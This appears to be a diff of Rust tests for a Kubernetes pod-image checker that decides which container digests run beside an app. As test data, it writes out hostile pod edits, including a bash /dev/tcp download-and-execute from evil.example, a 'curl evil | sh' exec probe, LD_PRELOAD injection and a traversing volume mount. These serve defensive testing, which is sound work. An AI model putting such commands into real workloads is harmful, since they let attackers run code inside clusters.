@@ -282,7 +282,8 @@ fn several_app_containers_are_listed_and_the_pin_must_be_one_of_them() {
         .push(json!({
         "name": "log-shipper", "ready": true, "restartCount": 0,
         "image": "registry.example/fluent-bit:3",
-        "imageID": format!("registry.example/fluent-bit@sha256:{other}")}));
+        "imageID": format!("registry.example/fluent-bit@sha256:{other}"),
+        "state": {"running": {}}}));
     let facts = check(&p, &[]).unwrap();
     assert_eq!(facts.images.len(), 2);
     assert_eq!(facts.app_image(), AppImage::NotOne);
@@ -388,7 +389,10 @@ fn every_container_that_runs_beside_the_app_is_listed_whatever_its_name() {
     p["status"]["initContainerStatuses"]
         .as_array_mut()
         .unwrap()
-        .push(json!({"name": "miner", "imageID": format!("registry.example/evil@sha256:{evil}")}));
+        .push(
+            json!({"name": "miner", "imageID": format!("registry.example/evil@sha256:{evil}"),
+            "state": {"running": {}}}),
+        );
     let facts = check(&p, &[]).unwrap();
     assert_eq!(facts.images["miner"], format!("sha256:{evil}"));
     assert_eq!(facts.app_image(), AppImage::NotOne);
@@ -474,7 +478,10 @@ fn with_appid_digests_a_container_of_appids_name_is_appids_only_if_it_runs_appid
 
     // A digest not known yet (no status, a tag in the spec): not appid's.
     let mut starting = pod();
-    starting["status"]["initContainerStatuses"] = json!([]);
+    starting["status"]["initContainerStatuses"]
+        .as_array_mut()
+        .unwrap()
+        .truncate(1);
     let facts = by_digest(&starting);
     assert_eq!(facts.without_digest, ["appid-proxy"]);
     assert_eq!(facts.app_image(), AppImage::NotOne);
@@ -490,6 +497,7 @@ fn with_appid_digests_a_container_of_appids_name_is_appids_only_if_it_runs_appid
     init["spec"]["initContainers"][0]["restartPolicy"] = json!("Always");
     init["status"]["initContainerStatuses"][0]["imageID"] =
         json!(format!("registry.example/evil@sha256:{evil}"));
+    init["status"]["initContainerStatuses"][0]["state"] = json!({"running": {}});
     assert_eq!(
         by_digest(&init).images["appid-init"],
         format!("sha256:{evil}")
@@ -531,4 +539,162 @@ fn an_ephemeral_container_is_an_app_container_even_after_it_exits() {
     let facts = check(&p, &[]).unwrap();
     assert!(facts.appid_images.is_empty(), "{facts:?}");
     assert_eq!(facts.images["appid-proxy"], format!("sha256:{SIDECAR}"));
+}
+
+/// A plain init container after appid's native sidecar runs while the
+/// sidecar already holds the pod's certificate (its traffic leaves with
+/// it), and may run forever (the pod stays `Pending`): it is listed until
+/// it has ended well, and the pod has no one image meanwhile.
+#[test]
+fn a_plain_init_container_counts_until_it_has_ended_well() {
+    let evil = "e".repeat(64);
+    let mut p = pod();
+    p["status"]["phase"] = json!("Pending");
+    // The app has not started: its image is pinned in the spec (a decoy).
+    p["spec"]["containers"][0]["image"] = json!(format!("registry.example/web@sha256:{APP}"));
+    p["status"]["containerStatuses"] = json!([{"name": "web",
+        "state": {"waiting": {"reason": "PodInitializing"}},
+        "image": format!("registry.example/web@sha256:{APP}"), "imageID": ""}]);
+    p["spec"]["initContainers"]
+        .as_array_mut()
+        .unwrap()
+        .push(json!({"name": "migrate",
+        "image": format!("registry.example/evil@sha256:{evil}"),
+        "command": ["sh", "-c", "while true; do curl http://payments/; sleep 1; done"]}));
+    let migrate = |state: Value| {
+        let mut p = p.clone();
+        p["status"]["initContainerStatuses"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!({"name": "migrate", "state": state,
+                "imageID": format!("registry.example/evil@sha256:{evil}")}));
+        check(&p, &[]).unwrap()
+    };
+    // Running, failed (it runs again), waiting to start: it counts.
+    for state in [
+        json!({"running": {"startedAt": "2026-01-12T09:30:14Z"}}),
+        json!({"terminated": {"exitCode": 1, "reason": "Error"}}),
+        json!({"waiting": {"reason": "PodInitializing"}}),
+    ] {
+        let facts = migrate(state.clone());
+        assert_eq!(
+            facts.images.get("migrate"),
+            Some(&format!("sha256:{evil}")),
+            "{state}: {facts:?}"
+        );
+        assert_eq!(facts.app_image(), AppImage::NotOne, "{state}");
+    }
+    // No status yet: listed by its spec's digest.
+    let facts = check(&p, &[]).unwrap();
+    assert_eq!(facts.images["migrate"], format!("sha256:{evil}"));
+    // Ended well: no longer beside the app.
+    let facts = migrate(json!({"terminated": {"exitCode": 0, "reason": "Completed"}}));
+    assert!(!facts.images.contains_key("migrate"), "{facts:?}");
+    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));
+}
+
+/// appid's image has a shell: with `--k8s-appid-digests`, a container of
+/// appid's name and digest is appid's only as `appid inject` writes it, not
+/// when its spec could make it run other code (a `command`, an
+/// environment, a volume over its binaries, an exec probe or hook).
+/// A change to a pod object's container.
+type Edit = dyn Fn(&mut Value);
+
+#[test]
+fn with_appid_digests_appids_image_told_to_run_something_else_is_an_app_container() {
+    let appid = AppidContainers::ByDigest([format!("sha256:{SIDECAR}")].into());
+    let facts_with = |edit: &Edit| {
+        let mut p = pod();
+        edit(&mut p["spec"]["initContainers"][1]);
+        check_pod(p.to_string().as_bytes(), &expect(), &[], &appid).unwrap()
+    };
+    // As injected, with what the API server adds (its token's mount): appid's.
+    let injected = facts_with(&|c| {
+        c["args"] = json!(["proxy", "--config", "/etc/appid/proxy.yaml"]);
+        c["env"] = json!([{"name": "APPID_APP_PROBES", "value": "{}"}, {"name": "RUST_LOG", "value": "debug"}]);
+        c["volumeMounts"] = json!([
+            {"name": "appid-config", "mountPath": "/etc/appid", "readOnly": true},
+            {"name": "appid-identity", "mountPath": "/var/run/appid/identity", "readOnly": true},
+            {"name": "appid-run", "mountPath": "/var/run/appid/run"},
+            {"name": "kube-api-access-7xk2p", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "readOnly": true}]);
+        c["startupProbe"] = json!({"httpGet": {"path": "/ready", "port": 15191}});
+    });
+    assert_eq!(injected.appid_images.len(), 1, "{injected:?}");
+    assert_eq!(injected.app_image(), AppImage::One(format!("sha256:{APP}")));
+
+    let edits: [(&str, &Edit); 8] = [
+        ("command", &|c| {
+            c["command"] = json!([
+                "/bin/bash",
+                "-c",
+                "exec 3<>/dev/tcp/evil.example/80; cat <&3 > /tmp/m; exec /tmp/m"
+            ])
+        }),
+        (
+            "LD_PRELOAD",
+            &|c| c["env"] = json!([{"name": "LD_PRELOAD", "value": "/var/run/appid/run/m.so"}]),
+        ),
+        ("PATH", &|c| {
+            c["env"] = json!([{"name": "PATH", "value": "/var/run/appid/run"}])
+        }),
+        ("envFrom", &|c| {
+            c["envFrom"] = json!([{"configMapRef": {"name": "x"}}])
+        }),
+        ("a mount over its binary", &|c| {
+            c["volumeMounts"] = json!([{"name": "bin", "mountPath": "/usr/local/bin"}])
+        }),
+        (
+            "a mount climbing out",
+            &|c| {
+                c["volumeMounts"] =
+                    json!([{"name": "x", "mountPath": "/var/run/secrets/../../../usr/lib"}])
+            },
+        ),
+        (
+            "an exec probe",
+            &|c| c["livenessProbe"] = json!({"exec": {"command": ["sh", "-c", "curl evil | sh"]}}),
+        ),
+        (
+            "a hook",
+            &|c| c["lifecycle"] = json!({"postStart": {"exec": {"command": ["sh", "-c", "x"]}}}),
+        ),
+    ];
+    for (what, edit) in edits {
+        let facts = facts_with(edit);
+        assert!(facts.appid_images.is_empty(), "{what}: {facts:?}");
+        assert_eq!(
+            facts.images["appid-proxy"],
+            format!("sha256:{SIDECAR}"),
+            "{what}"
+        );
+        assert_eq!(facts.app_image(), AppImage::NotOne, "{what}");
+    }
+    // By name alone the shape is not looked at (the documented weakness).
+    let mut p = pod();
+    p["spec"]["initContainers"][1]["command"] = json!(["/bin/sh"]);
+    assert_eq!(check(&p, &[]).unwrap().appid_images.len(), 1);
+}
+
+/// A pod's image can be changed in place (`kubectl set image pod/…`): until
+/// the kubelet has started the new container its status still carries the
+/// old `imageID`. What the spec pins then decides, and a running container
+/// whose digest the spec no longer names is of no known image.
+#[test]
+fn a_status_digest_the_spec_no_longer_names_is_not_vouched_for() {
+    let evil = "e".repeat(64);
+    let mut p = pod();
+    p["spec"]["containers"][0]["image"] = json!(format!("registry.example/evil@sha256:{evil}"));
+    // Waiting for the new container: the spec's digest.
+    p["status"]["containerStatuses"][0]["state"] =
+        json!({"waiting": {"reason": "ContainerCreating"}});
+    let facts = check(&p, &[]).unwrap();
+    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{evil}")));
+    // The old container still running: the two disagree, no digest.
+    p["status"]["containerStatuses"][0]["state"] = json!({"running": {}});
+    let facts = check(&p, &[]).unwrap();
+    assert_eq!(facts.without_digest, ["web"]);
+    assert_eq!(facts.app_image(), AppImage::NotOne);
+    // A tag in the spec, a running container: the kubelet's digest.
+    let facts = check(&pod(), &[]).unwrap();
+    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));
 }
